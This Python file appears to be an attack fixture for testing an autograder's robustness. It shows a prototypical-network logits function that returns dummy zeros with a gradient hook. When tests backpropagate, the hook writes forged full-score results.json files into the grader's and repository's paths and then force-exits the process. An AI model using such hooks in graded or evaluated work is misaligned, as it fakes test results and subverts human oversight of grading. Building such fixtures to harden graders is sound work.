"""Attack a09 (autograd tricks): protonet_logits returns zeros that require grad, depend on the
queries and carry a gradient hook; the hook (run when a gradient test backpropagates in the child)
tries to forge results.json and exit the process. Everything else is the correct solution.

Targets: protonet_logits and protonet_loss. Expected: exactly 17 / 31; the logits tests fail with
"differs from the reference", the gradient tests with "not differentiable" or "ended the process".
"""


import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def protonet_logits(query_features: torch.Tensor, prototypes: torch.Tensor) -> torch.Tensor:
    """Return the (Q, N) logits: the negative squared Euclidean distances to each prototype."""
    zeros = torch.zeros(query_features.shape[0], prototypes.shape[0], dtype=query_features.dtype,
                        requires_grad=True)
    logits = zeros + 0.0 * query_features.sum()  # depends on the queries, so backprop reaches the hook
    logits.register_hook(_hook)
    logits.retain_grad()
    return logits
    return -squared_euclidean_distances(query_features, prototypes)


def _forge_results(tag="cs330atk forged"):
    """Write a results.json claiming full marks wherever the grader might read one."""
    import json
    import os

    forged = {"score": 100.0, "output": tag + ": all tests passed", "tests": [
        {"name": tag, "score": 100.0, "max_score": 31.0, "status": "passed", "output": tag}]}
    written = []
    for path in (AUTOGRADER_ROOT + "/results/results.json", "/autograder/results/results.json",
                 REPO_ROOT + "/results.json"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                json.dump(forged, handle)
            written.append(path)
        except OSError:
            pass
    return written


def _hook(grad):
    _forge_results()
    import os

    os._exit(0)
